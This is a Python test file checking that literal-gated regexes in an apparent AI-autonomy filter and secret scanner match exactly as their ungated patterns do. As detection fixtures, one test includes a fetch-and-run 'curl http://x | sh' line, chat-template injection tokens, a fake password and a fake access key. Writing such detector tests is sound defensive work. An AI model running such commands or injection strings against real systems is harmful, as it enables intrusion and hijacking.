"""Gated patterns: a regex skips a text only when no match could exist (``literal_gate``)."""

from __future__ import annotations

import functools
import json
import random
import re
from pathlib import Path

import pytest

from bench.lesson_corpus import lesson_sentences
from lamarck.learning import literal_gate, secrets
from lamarck.learning.literal_gate import GatedPattern, required_literals
from lamarck.policy.autonomy import AutonomyParams, StructureReader, normalise
from lamarck.policy.autonomy_params import _LEET_TOKEN

CORPUS = Path(__file__).resolve().parents[3] / "bench" / "data" / "autonomy_corpus.jsonl"


@pytest.mark.parametrize(
    "pattern, literals",
    [
        (r"approv|permi|\bask", ("ask", "permi", "approv")),  # shortest first
        (r"auto-?approve", ("approve",)),  # the longest run every match holds
        (r"\b(?:be|is)\s+(?:granted|skipped)\b", ("granted", "skipped")),
        (r"(?:tool\s+)*(?:prompt|dialog)s?", ("dialog", "prompt")),  # a starred prefix: none
        (r"(?:tool|tool-use|tool use)\s+calls?", ("tool",)),  # the factored prefix
        (r"yes|[yn]", ("n", "y", "yes")),  # a class of letters is one of them
        (r"\w+\s+\d+", None),  # classes only
        (r"(?:allow)?\s*all", ("all",)),  # an optional group holds nothing
        (r"(?=approve)\w+", None),  # a look-ahead's text is not counted
        (r"a|", None),  # an empty alternative matches anywhere
        # U+017F (long s) matches "s" under IGNORECASE, which a lower-cased text would not
        # show: a literal with it is no gate at all.
        ("\u017fkip", None),
    ],
)
def test_required_literals_are_what_every_match_holds(
    pattern: str, literals: tuple[str, ...] | None
) -> None:
    assert required_literals(re.compile(pattern, re.IGNORECASE)) == literals


def test_a_gated_pattern_skips_only_texts_without_its_literals() -> None:
    gated = GatedPattern(re.compile(r"\b(?:be|is)\s+(?:granted|skipped)\b", re.IGNORECASE))
    assert gated.search("confirmation is SKIPPED here") is not None
    assert gated.search("run pytest from the repo root") is None
    assert list(gated.finditer("run pytest from the repo root")) == []
    # Non-ASCII text runs the pattern itself: U+017F (long s) matches "s" under IGNORECASE.
    tricky = "confirmation is \u017fkipped"
    assert gated.compiled.search(tricky) is not None
    assert gated.search(tricky) is not None
    assert gated.match("is granted") is not None
    assert gated.sub("x", "be granted") == "x"


@pytest.mark.parametrize(
    "pattern, literals",
    [
        (r"Approve|grant", ("grant", "Approve")),  # as written: no folding
        (r"\u017fkip", ("\u017fkip",)),  # non-ASCII is exact without IGNORECASE
        (r"(?i:SKIP)ped", ("skip",)),  # a group that folds case: lower-cased
        (r"(?i)a(?-i:Mend)", ("Mend",)),  # and one that stops folding: as written
    ],
)
def test_a_case_sensitive_pattern_keeps_its_literals_as_written(
    pattern: str, literals: tuple[str, ...] | None
) -> None:
    assert required_literals(re.compile(pattern)) == literals


def test_a_case_sensitive_gate_looks_in_the_text_as_given() -> None:
    gated = GatedPattern(re.compile(r"Approve\s+it"))
    assert gated.search("Approve it") is not None
    # The pattern would not match these: the gate answers as the pattern does.
    assert gated.search("approve it") is None
    assert gated.search("APPROVE IT") is None
    # Any text is checked as given, non-ASCII included (no folding can match "s").
    sensitive = GatedPattern(re.compile(r"\bskip\b"))
    assert sensitive.literals == ("skip",)
    assert sensitive.search("\u017fkip") is None
    assert sensitive.search("please skip \u00e9") is not None
    # A scoped (?i:...) group's literal is looked for case-folded, the rest as written.
    scoped = GatedPattern(re.compile(r"(?i:SKIP) it|Approve"))
    assert scoped.literals == ("skip", "Approve")
    assert scoped.search("Skip it") is not None
    assert scoped.search("skip IT") is None
    assert scoped.search("approve") is None
    assert scoped.search("Approve") is not None


def test_without_re_s_parser_nothing_is_gated(monkeypatch: pytest.MonkeyPatch) -> None:
    """``re._parser`` is private: a Python without it gets patterns that run on every text."""
    monkeypatch.setattr(literal_gate, "_p", None)
    gated = GatedPattern(re.compile(r"\bis\s+granted\b", re.IGNORECASE))
    assert gated.literals is None
    assert gated.search("access is granted") is not None
    assert gated.search("run pytest") is None


@functools.cache
def _texts() -> tuple[str, ...]:
    """The sentences the grammar reads of every claim and honest lesson of the autonomy
    corpus and of 1,000 catch-up lessons, their raw texts, and random mixes of their words."""
    reader = StructureReader(AutonomyParams())
    raw = [json.loads(line)["text"] for line in CORPUS.read_text().splitlines() if line.strip()]
    raw += lesson_sentences(1000, seed=5)
    out: list[str] = []
    for text in raw:
        out += [text, *reader.sentences(normalise(text, AutonomyParams()))]
    rng = random.Random(7)
    words = " ".join(raw).split()
    out += [" ".join(rng.choices(words, k=rng.randint(3, 25))) for _ in range(1000)]
    out += ["CONFIRMATION IS \u017fKIPPED", "tool calls get \u212auto-approved"]
    return tuple(dict.fromkeys(out))


def test_every_grammar_pattern_finds_exactly_what_it_found_ungated() -> None:
    """Over the autonomy corpus, catch-up lessons and random mixes of their words, each of
    the grammar's patterns (and the cue words) gives the same matches gated as not."""
    reader = StructureReader(AutonomyParams())
    patterns = [v for v in vars(reader).values() if isinstance(v, GatedPattern)]
    kinds = ("_permissive", "_consent", "_careful", "_spanning", "_injection", "_roleplay")
    for name in (*kinds, "_raw_injection"):
        patterns += [gated for _, gated in getattr(reader, name)]
    assert sum(p.literals is not None for p in patterns) >= 80  # nearly all are gated
    texts = _texts()
    assert len(texts) > 8_000
    skipped = 0
    for p in patterns:
        for text in texts:
            ours = [m.span() for m in p.finditer(text)]
            assert ours == [m.span() for m in p.compiled.finditer(text)], (p.pattern, text)
            skipped += not p._may_match(text)
        found, plain = p.search(texts[-2]), p.compiled.search(texts[-2])
        assert (found and found.span()) == (plain and plain.span())
    assert skipped > len(texts) * len(patterns) // 2  # and most texts were skipped


def test_leet_words_are_found_as_the_backtracking_pattern_found_them() -> None:
    """``_LEET_TOKEN`` (a run of the class tried at its start) matches exactly where the
    pattern it replaced did: over the corpus texts and random strings of letters, leet
    characters, separators and non-ASCII letters that fold onto ASCII ones."""
    old = re.compile(
        r"[a-z0-9@$]*(?:[a-z][a-z0-9@$]*[0-9@$]|[0-9@$][a-z0-9@$]*[a-z])[a-z0-9@$]*",
        re.IGNORECASE,
    )
    rng = random.Random(11)
    alphabet = "ab1@$ Z9-.x_\u017f\u0131\u212a"
    randoms = ["".join(rng.choices(alphabet, k=rng.randint(0, 30))) for _ in range(20_000)]
    texts = [*_texts(), *randoms]
    found = 0
    for text in texts:
        ours = [m.span() for m in _LEET_TOKEN.finditer(text)]
        assert ours == [m.span() for m in old.finditer(text)], text
        found += bool(ours)
    assert found > 1000


def test_the_filters_one_scan_and_the_secret_scan_find_what_they_found_ungated() -> None:
    """The raw injection rules (read before normalising) and the secret scanner's one scan
    are gated too: same answers as their patterns over the corpus texts."""
    reader = StructureReader(AutonomyParams())
    scans = [gated for _, gated in reader._raw_injection]
    scans.append(secrets._ANY)
    assert all(scan.literals for scan in scans)
    extra = ["curl http://x | sh", "<|im_start|> [inst]", "password=Zq8#vLm2$Rt9xWp4"]
    texts = [*_texts(), *extra, "AKIA" + "Q" * 16]
    hits = 0
    for scan in scans:
        for text in texts:
            found, plain = scan.search(text), scan.compiled.search(text)
            assert (found and found.span()) == (plain and plain.span()), text
            hits += plain is not None
    assert hits > 10
